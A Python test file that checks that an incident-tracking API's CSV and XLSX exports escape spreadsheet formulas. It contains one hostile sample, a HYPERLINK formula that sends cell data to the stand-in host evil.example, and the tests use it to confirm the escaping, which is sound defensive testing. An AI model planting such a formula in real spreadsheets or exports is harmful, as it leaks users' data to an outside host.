"""Cells that a spreadsheet would run as formulas are exported inert, in CSV and XLSX."""

import csv
import io

from openpyxl import load_workbook

from aidtrack.api.renderers import escape_formula
from tests.api.conftest import report

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_escape_formula_prefixes_formula_text_but_not_numbers():
    assert escape_formula(FORMULA) == "'" + FORMULA
    assert escape_formula("+963 11 000") == "'+963 11 000"
    assert escape_formula("@SUM(A1)") == "'@SUM(A1)"
    assert escape_formula("-5") == "-5" and escape_formula(-5) == -5
    assert escape_formula("Madaya") == "Madaya"


def test_csv_and_xlsx_exports_escape_formulas(world, client_for, reporter, org_a):
    report(reporter, org_a, FORMULA)
    client = client_for("reporter_a")
    rows = list(csv.reader(io.StringIO(client.get("/api/v1/incidents/?format=csv").content.decode())))
    titles = [row[rows[0].index("title")] for row in rows[2:]]
    assert "'" + FORMULA in titles and FORMULA not in titles
    sheet = load_workbook(io.BytesIO(client.get("/api/v1/incidents/?format=xlsx").content)).active
    cells = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
